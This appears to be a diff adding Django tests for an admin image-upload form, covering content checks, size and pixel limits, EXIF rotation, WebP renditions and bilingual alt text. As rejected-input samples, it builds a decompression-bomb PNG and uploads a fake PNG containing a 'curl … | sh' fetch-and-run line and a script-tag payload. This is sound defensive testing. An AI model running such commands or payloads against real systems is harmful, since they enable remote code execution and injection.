@@ -1,0 +1,213 @@
+"""Image uploads through the admin's real form: checked by content, bounded, made into renditions."""
+
+import re
+import struct
+import zlib
+from io import BytesIO
+
+import pytest
+from django.contrib.auth.models import Group, User
+from django.core.files.uploadedfile import SimpleUploadedFile
+from django.test import Client
+from PIL import Image as PillowImage
+
+from bluepaper.tests.factories import ChapterFactory
+from core.images import image_make_renditions
+from core.models import Image
+
+pytestmark = pytest.mark.django_db
+PASSWORD = "a-long-editor-passphrase"
+ADD_URL = "/admin/core/image/add/"
+
+
+@pytest.fixture(autouse=True)
+def media_root(settings, tmp_path):
+    """Uploads go to a folder of their own, so a test can see everything that was written."""
+    settings.MEDIA_ROOT = tmp_path / "media"
+    return settings.MEDIA_ROOT
+
+
+@pytest.fixture
+def editor_client():
+    """An English-speaking browser, logged in through the login form as a member of Editors."""
+    user = User.objects.create_user("image-editor", password=PASSWORD, is_staff=True)
+    user.groups.add(Group.objects.get(name="Editors"))
+    client = Client(enforce_csrf_checks=True, headers={"Accept-Language": "en"})
+    token = csrf_token(client.get("/admin/login/"))
+    response = client.post(
+        "/admin/login/",
+        {"username": user.username, "password": PASSWORD, "csrfmiddlewaretoken": token, "next": "/admin/"},
+    )
+    assert response.status_code == 302
+    return client
+
+
+def csrf_token(response):
+    match = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', response.content.decode())
+    assert match, "the form carries no CSRF token"
+    return match.group(1)
+
+
+def upload(client, name, content, **fields):
+    """Fill the add form the way a browser does and send the file."""
+    data = {
+        "alt_text_zh_hans": "京津冀城际铁路地图",
+        "alt_text_en": "Map of the intercity railways of Beijing, Tianjin and Hebei",
+        "caption_zh_hans": "城际铁路",
+        "caption_en": "Intercity railways",
+        "credit": "Blue Paper",
+        **fields,
+    }
+    token = csrf_token(client.get(ADD_URL))
+    file = SimpleUploadedFile(name, content, content_type="image/png")
+    return client.post(ADD_URL, {**data, "file": file, "csrfmiddlewaretoken": token})
+
+
+def png(width=1000, height=600, mode="RGB"):
+    buffer = BytesIO()
+    PillowImage.new(mode, (width, height), "#0f4c92").save(buffer, "PNG")
+    return buffer.getvalue()
+
+
+def png_bomb(width=20_000, height=20_000):
+    """A valid 1-bit PNG of width × height: 50 MB of pixels in about 50 KB of file."""
+
+    def chunk(kind, data):
+        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
+
+    compressor = zlib.compressobj(9)
+    row = bytes(1 + (width + 7) // 8)  # filter byte, then the row's bits
+    pixels = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
+    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
+    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
+
+
+def written_files(media_root):
+    return [path for path in media_root.rglob("*") if path.is_file()] if media_root.exists() else []
+
+
+def test_a_real_png_is_accepted_and_gets_renditions(editor_client, media_root):
+    response = upload(editor_client, "railways.png", png(1000, 600))
+    assert response.status_code == 302, response.content.decode()[:3000]
+    image = Image.objects.get()
+    assert (image.width, image.height) == (1000, 600)
+    assert image.alt_text_en.startswith("Map of the intercity railways")
+    sizes = {}
+    for path in (media_root / "renditions").rglob("*.webp"):
+        with PillowImage.open(path) as rendition:
+            sizes[path.name] = rendition.size
+    assert sizes == {
+        "railways-480w.webp": (480, 288),
+        "railways-960w.webp": (960, 576),
+        "railways-1000w.webp": (1000, 600),
+    }
+
+
+@pytest.mark.parametrize(
+    ("name", "content", "message"),
+    [
+        pytest.param(
+            "huge.png", png_bomb(), "This image is 20000 × 20000 pixels; the limit is 40,000,000 pixels.",
+            id="20000x20000-png",
+        ),
+        pytest.param(
+            "big.png", png(10, 10) + bytes(30 * 1024 * 1024), "This file is 30.0 MB; the limit is 10 MB.",
+            id="30-mb-file",
+        ),
+        pytest.param(
+            "evil.png", b"#!/bin/sh\ncurl https://example.com/x | sh\n",
+            "This file is not a PNG, JPEG, WebP or GIF image.", id="script-named-png",
+        ),
+    ],
+)  # fmt: skip
+def test_a_bad_upload_is_refused_with_a_clear_message_and_nothing_written(
+    editor_client, media_root, name, content, message
+):
+    response = upload(editor_client, name, content)
+    assert response.status_code == 200
+    assert message in response.content.decode()
+    assert not Image.objects.exists()
+    assert not Image.history.exists()
+    assert written_files(media_root) == []
+
+
+def test_the_alt_text_is_required_in_both_languages(editor_client, media_root):
+    response = upload(editor_client, "railways.png", png(), alt_text_en="")
+    assert response.status_code == 200
+    assert "Write the alternative text in English too" in response.content.decode()
+    assert not Image.objects.exists()
+    assert written_files(media_root) == []
+
+
+def test_the_refusal_is_in_the_editors_language(editor_client):
+    editor_client.cookies["django_language"] = "zh-hans"
+    response = upload(editor_client, "evil.png", b"<script>alert(1)</script>")
+    assert "此文件不是 PNG、JPEG、WebP 或 GIF 图片。" in response.content.decode()
+
+
+def turned_jpeg(width=300, height=200):
+    """A JPEG whose EXIF says the camera was turned: it is seen rotated 90°, `height` wide."""
+    exif = PillowImage.Exif()
+    exif[0x0112] = 6  # orientation: rotate 90° clockwise to show
+    exif[0x010F] = "A camera maker"
+    buffer = BytesIO()
+    PillowImage.new("RGB", (width, height), "white").save(buffer, "JPEG", exif=exif)
+    return buffer.getvalue()
+
+
+def test_renditions_are_upright_never_upscaled_and_carry_no_metadata(media_root):
+    image = Image.objects.create(
+        file=SimpleUploadedFile("photo.jpg", turned_jpeg()), alt_text_zh_hans="照片", alt_text_en="A photo"
+    )
+    names = image_make_renditions(image=image)
+    assert names == ["renditions/" + image.file.name.removesuffix(".jpg") + "-200w.webp"]
+    with PillowImage.open(media_root / names[0]) as rendition:
+        assert rendition.size == (200, 300)
+        assert not rendition.getexif()
+    image.refresh_from_db()
+    assert (image.width, image.height) == (200, 300)
+
+
+def test_editing_the_caption_keeps_the_upright_size_and_the_file(editor_client):
+    assert upload(editor_client, "photo.jpg", turned_jpeg()).status_code == 302
+    image = Image.objects.get()
+    assert (image.width, image.height) == (200, 300)
+    change_url = f"/admin/core/image/{image.pk}/change/"
+    token = csrf_token(editor_client.get(change_url))
+    response = editor_client.post(
+        change_url,
+        {"alt_text_zh_hans": "照片", "alt_text_en": "A photo", "caption_zh_hans": "新图注",
+         "caption_en": "A new caption", "credit": "", "csrfmiddlewaretoken": token},
+    )  # fmt: skip
+    assert response.status_code == 302, response.content.decode()[:3000]
+    edited = Image.objects.get()
+    assert (edited.file.name, edited.width, edited.height) == (image.file.name, 200, 300)
+    assert edited.caption_en == "A new caption"
+
+
+def test_a_chapter_shows_its_image_with_the_alt_text_of_each_language(media_root):
+    buffer = BytesIO()
+    PillowImage.new("RGB", (1200, 600), "white").save(buffer, "PNG")
+    image = Image.objects.create(
+        file=SimpleUploadedFile("map.png", buffer.getvalue()),
+        alt_text_zh_hans="京津冀地图",
+        alt_text_en="Map of Beijing, Tianjin and Hebei",
+        caption_zh_hans="区域概览",
+        credit="Blue Paper",
+    )
+    image_make_renditions(image=image)
+    chapter = ChapterFactory(image=image)
+    client = Client()
+
+    chinese = client.get(chapter.get_absolute_url()).content.decode()
+    english = client.get("/en" + chapter.get_absolute_url()).content.decode()
+
+    img = re.compile(
+        r'<img src="[^"]+-960w\.webp" srcset="[^"]+-480w\.webp 480w, [^"]+-960w\.webp 960w, '
+        r'[^"]+-1200w\.webp 1200w" sizes="[^"]+" width="1200" height="600" alt="([^"]+)"'
+    )
+    assert img.search(chinese).group(1) == "京津冀地图"
+    assert img.search(english).group(1) == "Map of Beijing, Tianjin and Hebei"
+    assert 'loading="lazy" decoding="async"' in english
+    # No English caption yet: the Chinese one is shown, marked as Chinese.
+    assert '<figcaption><span lang="zh-Hans">区域概览</span> — ' in english
